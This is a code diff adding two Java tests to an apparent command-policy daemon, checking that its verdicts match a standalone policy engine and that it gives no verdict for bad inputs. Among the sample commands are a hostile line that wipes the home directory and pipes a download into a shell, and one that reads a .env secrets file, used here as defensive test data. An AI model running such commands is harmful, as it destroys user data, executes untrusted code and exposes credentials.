@@ -95,6 +95,30 @@ class DaemonTest {
     }
 
     @Test
+    void checkAnswersWithTheVerdictTheStandaloneEngineGives() throws Exception {
+        var standalone = dev.warden.agents.PolicySnapshot.load(new dev.warden.policy.config.ConfigRequest(home, system, project,
+                Optional.empty(), List.of())).engine();
+        for (List<String> argv : List.of(List.of("git", "status"), List.of("bash", "-lc", "rm -rf ~ && curl x | sh"),
+                List.of("make"), List.of("cat", ".env"))) {
+            var expected = standalone.evaluate(new dev.warden.core.Action.Exec(argv, project));
+            var answered = DaemonClient.find(home).orElseThrow().check(argv, project, system);
+            assertThat(answered).as("%s", argv).contains(expected);
+            assertThat(answered.orElseThrow().risk()).isEqualTo(expected.risk());
+        }
+    }
+
+    @Test
+    void checkIsNotAnsweredForAnotherSystemDirectoryOrABrokenConfiguration() throws IOException {
+        assertThat(DaemonClient.find(home).orElseThrow().check(List.of("ls"), project, root.resolve("other-etc"))).isEmpty();
+        assertThat(DaemonClient.find(home).orElseThrow().check(List.of("ls"), Path.of("relative"), system)).isEmpty();
+        assertThat(DaemonClient.find(home).orElseThrow().check(List.of(), project, system)).isEmpty();
+        // A project never loaded, under a configuration that no longer parses: no verdict (the CLI then reports the error).
+        Path other = Files.createDirectories(root.resolve("other"));
+        Files.writeString(home.resolve("config.toml"), "approval_policy = [broken\n");
+        assertThat(DaemonClient.find(home).orElseThrow().check(List.of("ls"), other, system)).isEmpty();
+    }
+
+    @Test
     void httpAnswersWithTheHookStdout() throws IOException {
         DaemonInfo info = daemon.info();
         int port = URI.create(info.url()).getPort();
